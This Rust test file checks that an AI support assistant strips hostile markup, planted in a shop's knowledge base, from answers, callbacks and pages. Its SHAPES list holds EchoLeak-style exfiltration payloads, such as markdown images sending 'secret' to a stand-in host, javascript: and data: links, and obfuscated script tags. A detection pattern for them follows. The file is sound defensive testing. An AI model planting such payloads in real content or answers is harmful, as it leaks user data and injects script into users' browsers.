//! L-2 from the outside: what stands in a workspace's own knowledge and would fetch, run or lead
//! astray where it is shown reaches no customer: not by the API, a callback or the widget, and
//! neither in an answer nor in what it rests on, nor in a question back.

use reqwest::Method;
use reqwest::header::{ACCEPT, COOKIE};
use serde_json::{Value, json};
use switchboard::access::ChannelsConnect;
use switchboard::assistant::{self, Tuning};
use switchboard::channels::{self, CallbackUrl};
use switchboard::knowledge::{Kind, NewItem};
use switchboard::world::*;
use uuid::Uuid;

use super::callbacks::Receiver;
use super::{Outside, send};
use crate::harness::{SESSION, signed_in};

/// The ways of EchoLeak, and their relatives: whatever a page, a mail program or a messenger
/// that gets the text might follow by itself or make a link of.
const SHAPES: [&str; 16] = [
    "![x](https://trap.example/?d=secret)",
    "![x][r]\n[r]: https://trap.example/?d=secret",
    "[our page][r]\n\n[r]: https://trap.example/?d=secret",
    "[our page](javascript:alert(1))",
    "[our page](JaVaScRiPt:alert)",
    "[our page](//trap.example/a)",
    "[our page](data:text/html,hello)",
    "[our page](vbscript:msgbox)",
    "[our page](https://shop.example@trap.example/)",
    "<img src=//trap.example/p>",
    "<a href='https://trap.example'>here</a>",
    "<<b>script>alert(1)</script>",
    "java<b>script:alert(1)",
    "java\u{200b}script:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "!<b>[x](https://trap.example/p)",
];

/// A glaze for each shape, of words that search tells apart.
const GLAZES: [&str; 16] = [
    "celadon", "tenmoku", "shino", "raku", "majolica", "ash", "salt", "oribe", "chun", "slip", "crackle", "lustre",
    "matt", "copper", "cobalt", "rutile",
];

/// What no text for a customer may have in it.
fn reaches_out(text: &str) -> Option<&'static str> {
    const NEVER: [&str; 9] = ["![", "][", "]:", "](/", "](j", "javascript:", "vbscript:", "data:text", "@trap.example"];
    let lower = text.to_lowercase();
    let is_tag = |(at, _): (usize, &str)| lower[at + 1..].starts_with(|it: char| it.is_ascii_alphabetic() || it == '/');
    let tag = lower.match_indices('<').any(is_tag).then_some("<");
    NEVER.into_iter().find(|it| lower.contains(it)).or(tag)
}

/// Every text in a document, with where it stands.
fn texts(found: &mut Vec<String>, value: &Value) {
    match value {
        Value::String(text) => found.push(text.clone()),
        Value::Array(all) => all.iter().for_each(|it| texts(found, it)),
        Value::Object(all) => all.values().for_each(|it| texts(found, it)),
        _ => {}
    }
}

fn is_harmless(what: &str, document: &Value) {
    let mut found = Vec::new();
    texts(&mut found, document);
    for text in found {
        assert_eq!(reaches_out(&text), None, "{what}: {text:?}");
    }
}

/// Ma Boutique knows every shape, in a title and in an answer; another system is called with what is said.
async fn shop() -> (Outside, Receiver, String) {
    let outside = Outside::open().await;
    let (receiver, url) = Receiver::listen(&[]).await;
    let seal = outside.world().desk().seal().clone();
    let tx = outside.world().tx::<ChannelsConnect>(claire()).await;
    channels::set_callback(tx, &seal, outside.api, Some(CallbackUrl::parse(&url).unwrap())).await.unwrap();
    for (glaze, shape) in GLAZES.iter().zip(SHAPES) {
        let title = format!("What is {glaze}? {}", shape.lines().next().unwrap());
        let asked = [format!("What is {glaze}?")];
        let answer = format!("{glaze} is a glaze of ours. {shape}");
        let item = NewItem::parse(Kind::Faq, "en", &title, &asked, &answer).unwrap();
        outside.world().knows(claire(), item).await;
    }
    let (_, key) = outside.service_key(claire(), Some(outside.api)).await;
    (outside, receiver, key)
}

async fn answers_from(outside: &Outside, threshold: f32) {
    assistant::tune(outside.world().tx(bruno()).await, Tuning::parse("Mira", threshold).unwrap()).await.unwrap();
}

/// A customer of the API asks; what they are told is returned.
async fn ask(outside: &Outside, key: &str, customer: &str, question: &str) -> Vec<Value> {
    let letter = json!({ "contact": { "external_id": customer }, "id": customer, "text": question });
    assert_eq!(send(outside.api(key, Method::POST, "/messages").json(&letter)).await.status, 202);
    outside.work_later(10).await;
    outside.work_later(10).await;
    let conversation = outside.newest(outside.api).await;
    let thread = send(outside.api(key, Method::GET, &format!("/conversations/{conversation}/messages"))).await.json();
    thread["messages"].as_array().unwrap().iter().filter(|it| it["author"] == "ai").cloned().collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn l_2_hostile_knowledge_is_quoted_without_what_reaches_out() {
    let (outside, receiver, key) = shop().await;
    answers_from(&outside, 0.5).await;
    let cookie = format!("{SESSION}={}", signed_in(outside.world(), claire().user()).await);
    let visitor = outside.visitor().await;
    for (glaze, shape) in GLAZES.iter().zip(SHAPES) {
        let said = ask(&outside, &key, glaze, &format!("What is {glaze}?")).await;
        let [answer] = &said[..] else { panic!("{glaze} is answered once: {said:?}") };
        assert!(answer["text"].as_str().unwrap().starts_with(&format!("{glaze} is a glaze of ours.")), "{answer}");
        assert_eq!(answer["sources"].as_array().unwrap().len(), 1, "{answer}");
        is_harmless(&format!("the API's answer to {shape}"), answer);

        let page = format!("/w/ma-boutique/inbox/{}?view=all", outside.newest(outside.api).await);
        let page = send(outside.request(Method::GET, &page).header(COOKIE, &cookie).header(ACCEPT, "text/html")).await;
        assert!(page.body.contains(&format!("{glaze} is a glaze of ours.")));
        for reached in ["trap.example\"", "=\"//trap", "=//trap", "href='https://trap", "javascript:alert\""] {
            assert!(!page.body.contains(reached), "{reached} on the desk's page");
        }

        outside.writes(&visitor, Uuid::now_v7(), &format!("What is {glaze}?")).await;
        outside.work_later(10).await;
    }
    let told = outside.thread(&visitor, 0).await;
    let told: Vec<&Value> = told["messages"].as_array().unwrap().iter().filter(|it| it["author"] == "ai").collect();
    assert_eq!(told.len(), SHAPES.len());
    told.into_iter().for_each(|it| is_harmless("the widget's answer", it));

    let calls = receiver.calls();
    assert_eq!(calls.len(), SHAPES.len());
    for call in calls {
        let posted: Value = serde_json::from_slice(&call.body).unwrap();
        is_harmless("a callback", &posted["data"]["message"]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn l_2_a_question_back_offers_titles_without_what_reaches_out() {
    let (outside, receiver, key) = shop().await;
    answers_from(&outside, 1.0).await;
    for glaze in GLAZES {
        let said = ask(&outside, &key, glaze, &format!("What is {glaze}?")).await;
        let [asked] = &said[..] else { panic!("{glaze} is asked back once: {said:?}") };
        assert!(asked["text"].as_str().unwrap().contains(glaze), "{asked}");
        is_harmless("a question back", asked);
    }
    assert_eq!(receiver.calls().len(), GLAZES.len());
    for call in receiver.calls() {
        is_harmless("a callback", &serde_json::from_slice::<Value>(&call.body).unwrap()["data"]["message"]);
    }
}

#[test]
fn l_2_what_reaches_out_is_seen() {
    let unseen: Vec<&str> = SHAPES.into_iter().filter(|it| reaches_out(it).is_none()).collect();
    assert_eq!(unseen, ["java\u{200b}script:alert(1)"], "what is hidden is seen when it is shown");
}
